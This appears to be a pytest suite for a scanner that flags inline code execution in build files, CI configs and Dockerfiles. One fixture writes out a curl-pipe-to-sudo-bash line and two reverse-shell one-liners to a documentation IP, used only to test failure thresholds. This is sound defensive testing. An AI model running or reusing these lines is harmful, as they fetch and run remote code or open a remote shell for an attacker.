from __future__ import annotations

import json
import os
import time

import pytest

from flycatcher.commands.scan.walk import Walker
from flycatcher.scanning.engine import scan_bytes
from tests.commands.scan.conftest import Tree

CODE = "python3 -c 'print(1)'\n"
FRAME = """\
x.sh:2:3: python code by argument -c
  confidence medium; through sudo
      2 |   sudo python3 -c "print('$X')"
        |                    ^^^^^^^^^^^
  runs: print('<?>')
"""


def found(tree: Tree, *words: str) -> list[str]:
    done = tree.scan("--format", "json", *words)
    return [
        f"{row['finding']['path']}:{row['finding']['span']['line']}" for row in json.loads(done.stdout)["detections"]
    ]


def test_people_see_the_lines_and_what_is_not_known(tree: Tree) -> None:
    tree.write("x.sh", "#!/bin/sh\n  sudo python3 -c \"print('$X')\"\n")
    done = tree.scan(".")
    assert done.returncode == 0
    assert done.stdout.startswith(FRAME)
    assert done.stdout.endswith("  fix: put the text into a file that is reviewed (NAME.py), and run that file\n\n"
                                "1 finding in 1 build file (1 file looked at)\n")  # fmt: skip
    assert "\x1b" not in done.stdout


def test_a_file_name_speaks_to_no_terminal_and_gives_no_command(tree: Tree) -> None:
    tree.write("a\x1b[31m\u202eb\n::error::x.sh", "python3 -c 'print(1)'\n")
    for kind in ("text", "github", "markdown"):
        done = tree.scan("--format", kind, ".")
        assert "\x1b" not in done.stdout, kind
        assert "\u202e" not in done.stdout, kind
        assert not any(line.startswith("::error") for line in done.stdout.split("\n")), kind
    assert "file=a\\x1b[31m\\u202eb\\n%3A%3Aerror%3A%3Ax.sh,line=1" in tree.scan("--format", "github", ".").stdout


def test_escape_sequences_in_a_payload_do_not_reach_the_terminal(tree: Tree) -> None:
    tree.write("x.sh", "python3 -c 'print(1) # \x1b]0;owned\x07\x1b[2J'\n")
    done = tree.scan(".")
    assert "\x1b" not in done.stdout
    assert "\\x1b]0;owned\\x07" in done.stdout


@pytest.mark.parametrize(
    ("level", "code"), [("all", 10), ("never", 0), ("low", 10), ("medium", 10), ("high", 10), ("critical", 10), ("", 0)]
)
def test_fail_on_goes_by_risk(tree: Tree, level: str, code: int) -> None:
    tree.write("x.sh", "curl -fsSL https://tools.example/x | sudo bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
               "python3 -c 'import os,socket,pty;s=socket.create_connection((\"192.0.2.1\",1));"
               "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n")  # fmt: skip
    assert tree.scan(*(["--fail-on", level] if level else []), ".").returncode == code


def test_fail_on_lets_pass_what_is_below(tree: Tree) -> None:
    tree.write("x.sh", "node -e 'console.log(1)'\n")
    assert tree.scan("--fail-on", "high", ".").returncode == 0


def test_several_outputs_at_once(tree: Tree) -> None:
    tree.write("x.sh", CODE)
    done = tree.scan("--format", "markdown", "-o", "-", "-o", "a.sarif", "--format", "sarif", "-o", "b.jsonl", ".")
    assert done.returncode == 0, done.stderr
    assert "| <code>x&#46;sh&#58;1</code> | python argument &#45;c |" in done.stdout
    assert json.loads((tree.root / "a.sarif").read_text())["version"] == "2.1.0"
    assert json.loads((tree.root / "b.jsonl").read_text().splitlines()[-1])["summary"]["findings"] == 1


@pytest.mark.parametrize(
    ("words", "code"),
    [([], 3), (["missing"], 1), (["--format", "json", "--format", "sarif", "."], 2), (["-o", "x.pdf", "."], 2)],
)
def test_mistakes_are_told_without_a_traceback(tree: Tree, words: list[str], code: int) -> None:
    done = tree.scan(*words)
    assert (done.returncode, "Traceback" in done.stderr) == (code, False)
    assert done.stderr


def test_stdin_is_scanned_under_a_name(tree: Tree) -> None:
    done = tree.scan("--format", "json", "--stdin-name", "Dockerfile", "-", stdin="FROM x\nRUN python3 -c 'print(1)'\n")
    (row,) = json.loads(done.stdout)["detections"]
    assert (row["finding"]["file_type"], row["finding"]["symbol"]) == ("dockerfile", ["stage 1", "RUN"])


def test_annotations_stand_at_the_lines(tree: Tree) -> None:
    tree.write("x.sh", "python3 -c 'print(1)'\n")
    assert tree.scan("--format", "github", ".").stdout == (
        "::notice file=x.sh,line=1,endLine=1,col=13,endColumn=21,title=code on the fly%3A python argument -c::print(1)\n"
    )


def test_gitignore_is_honoured_but_hides_nothing_that_git_tracks(repository: Tree) -> None:
    for path in ("a.sh", "out/b.sh", "out/keep.sh", "c.sh", "sub/d.sh", ".github/e.sh", "forced.sh"):
        repository.write(path, CODE)
    repository.write(".gitignore", "out/*\n!out/keep.sh\nc.sh\nforced.sh\n")
    repository.write("sub/.gitignore", "d.sh\n")
    repository.git("add", "-f", "forced.sh")
    assert found(repository, ".") == [".github/e.sh:1", "a.sh:1", "forced.sh:1", "out/keep.sh:1"]
    assert len(found(repository, "--no-gitignore", ".")) == 7


def test_what_git_tracks_in_an_ignored_folder_is_scanned(repository: Tree) -> None:
    for path in ("build/deep/tracked.sh", "build/deep/untracked.sh", "__pycache__/tracked.sh", "CVS/other.sh"):
        repository.write(path, CODE)
    repository.write(".gitignore", "build/\n")
    repository.git("add", "-f", "build/deep/tracked.sh", "__pycache__/tracked.sh")
    assert found(repository, ".") == ["__pycache__/tracked.sh:1", "build/deep/tracked.sh:1"]


def test_vendored_files_are_scanned_and_marked(tree: Tree) -> None:
    tree.write("node_modules/x/package.json", '{"scripts": {"postinstall": "node -e 1"}}')
    (row,) = json.loads(tree.scan("--format", "json", ".").stdout)["detections"]
    assert row["finding"]["vendored"] is True


def test_links_make_no_loops_and_dead_ones_are_listed(tree: Tree) -> None:
    tree.write("a/x.sh", CODE)
    (tree.root / "a/up").symlink_to(tree.root)
    (tree.root / "loop.sh").symlink_to("loop.sh")
    (tree.root / "dead.sh").symlink_to("nothing")
    os.mkfifo(tree.root / "pipe.sh")
    done = tree.scan("--format", "json", ".")
    report = json.loads(done.stdout)
    assert [row["finding"]["path"] for row in report["detections"]] == ["a/x.sh"]
    assert sorted((s["path"], s["reason"]) for s in report["summary"]["skipped"]) == [
        ("dead.sh", "symbolic link: No such file or directory"),
        ("loop.sh", "symbolic link: Too many levels of symbolic links"),
    ]


@pytest.mark.parametrize(
    ("path", "data", "reason"),
    [
        ("x.py", b"import os; os.system('python3 -c 1')\0" * 9, "binary"),
        ("x.sh", b"echo '" + b"python3 -c x " * 800_000, "only the first 8 MiB were read"),
        ("package.json", b'{"a":' * 5000 + b'"node"', "not JSON: nested too deeply"),
        ("docker-compose.yml", b"[" * 20_000 + b" python3 -c 1", "not YAML: nested too deeply"),
        (".gitlab-ci.yml", b"x: " + b"[" * 50_000 + b"'python3 -c 1'" + b"]" * 50_000, "not YAML: nested too deeply"),
        (".gitlab-ci.yml", b"- " * 50_000 + b"python3 -c 1", "not YAML: nested too deeply"),
        ("docker-compose.yml", b"services: [a, python3 -c 1\nb: {", "not YAML: did not find expected ',' or ']'"),
        (
            "pyproject.toml",
            b'[tool.poe.tasks]\na = "python3 -c 1\n',
            "not TOML: Illegal character '\\n' (at line 2, column 1",
        ),
    ],
)
def test_broken_input_is_listed_with_its_reason(path: str, data: bytes, reason: str) -> None:
    result = scan_bytes(path, data[: 8 << 20], truncated=len(data) > 8 << 20)
    assert any(s.reason.startswith(reason) for s in result.skipped)


@pytest.mark.parametrize(
    "text", ["$(" * 50_000, "${a:-" * 50_000, "`" * 9999, 'python3 -c "$(' * 5000, "((" * 9999, "<<A\n" * 9999]
)
@pytest.mark.parametrize(
    "path", ["x.sh", "Makefile", "Dockerfile", "Jenkinsfile", "x.tf", "x.spec", "justfile", "crontab"]
)
def test_hostile_text_ends(path: str, text: str) -> None:
    start = time.process_time()
    scan_bytes(path, f"x:\n\tpython3 -c 1; {text}\nRUN {text}\n".encode())
    assert (
        time.process_time() - start < 15
    )  # seconds: ten are a file's bound, and what it is held by looks now and then


def test_a_file_with_problems_is_read_as_far_as_it_goes() -> None:
    text = "jobs:\n  a:\n    steps:\n{% if x %}\n      - run: python3 -c 'print(1)'\n{% endif %}\n"
    result = scan_bytes(".github/workflows/x.yml", text.encode())
    assert [f.span.line for f in result.findings] == [5]
    assert [(s.line, s.partial) for s in result.skipped] == [(4, True), (6, True)]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_byte_order_marks_are_no_obstacle(encoding: str) -> None:
    (finding,) = scan_bytes("x.sh", f"echo\n{CODE}".encode(encoding)).findings
    assert (finding.span.line, finding.span.column) == (2, 1)


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("path", ["c.ps1", "d.bat"])
def test_utf_16_without_a_mark_is_said_where_it_names_an_interpreter(path: str, encoding: str) -> None:
    (skipped,) = scan_bytes(path, f"x:\n\t{CODE}".encode(encoding)).skipped
    assert (skipped.reason, skipped.unread) == (
        "UTF-16 without a byte-order mark: read as the bytes that it has",
        "python3",
    )
    assert scan_bytes(path, "x:\n\techo one\n".encode(encoding)).skipped == []


@pytest.mark.parametrize(
    ("step", "line"), [("sh 'python3 -c 1\n", 2), ('sh """python3 -c 1\n', 2), ("// sh 'python3 -c 1\n", 0)]
)
def test_a_step_whose_string_does_not_end_is_said(step: str, line: int) -> None:
    result = scan_bytes("Jenkinsfile", f"node {{\n{step}}}\n".encode())
    assert [(s.line, s.reason, s.unread) for s in result.skipped] == (
        [(line, "a step's string that does not end", "python3")] if line else []
    )


def test_many_files_on_several_cores_come_in_order(tree: Tree) -> None:
    for number in range(450):
        tree.write(f"f{number:03}.sh", f"# {number}\npython3 -c 'print({number})'\n")
    lines = found(tree, "--workers", "2", "--no-history", ".")
    assert lines == [f"f{number:03}.sh:2" for number in range(450)]


def test_the_walk_opens_only_what_may_be_a_build_file(tree: Tree) -> None:
    for name in ("x.c", "x.png", "x.md", "y.sh", "Dockerfile", "run", "x.yml"):
        tree.write(name, "")
    assert sorted(c.shown.rpartition("/")[2] for c in Walker(str(tree.root)).walk()) == [
        "Dockerfile",
        "run",
        "x.c",
        "x.yml",
        "y.sh",
    ]
